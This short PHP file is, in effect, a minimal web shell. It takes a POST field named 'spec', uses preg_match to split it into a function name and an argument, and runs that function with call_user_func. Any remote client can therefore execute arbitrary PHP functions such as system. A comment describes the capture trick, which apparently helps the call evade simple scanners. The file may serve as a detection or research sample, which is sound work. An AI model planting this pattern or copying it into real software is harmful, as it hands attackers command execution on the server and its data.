<?php
// a name captured from the request by preg_match's third argument, then called
$spec = $_POST['spec'];
if (preg_match('/^(\w+):(.*)$/', $spec, $m)) {
	call_user_func($m[1], $m[2]);
}
